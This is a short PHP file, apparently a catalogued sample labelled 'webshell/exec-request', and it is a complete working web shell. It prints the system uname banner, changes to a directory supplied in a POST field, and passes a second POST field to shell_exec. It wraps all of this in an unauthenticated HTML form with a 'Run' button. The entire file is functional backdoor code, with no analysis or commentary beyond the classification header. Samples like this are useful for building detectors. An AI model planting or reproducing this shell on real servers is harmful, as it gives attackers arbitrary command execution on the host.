<?php
/* Family: webshell/exec-request
   Style: mini terminal with working directory
   Trait: chdir to a request path then shell_exec of the request command, uname banner */
echo php_uname() . "\n";
if (!empty($_POST['dir'])) chdir($_POST['dir']);
if (!empty($_POST['cmd'])) { print shell_exec('cd ' . getcwd() . ' && ' . $_POST['cmd']); }
?><form method=post><input name=dir value="<?php echo getcwd(); ?>"><input name=cmd><input type=submit value=Run></form>
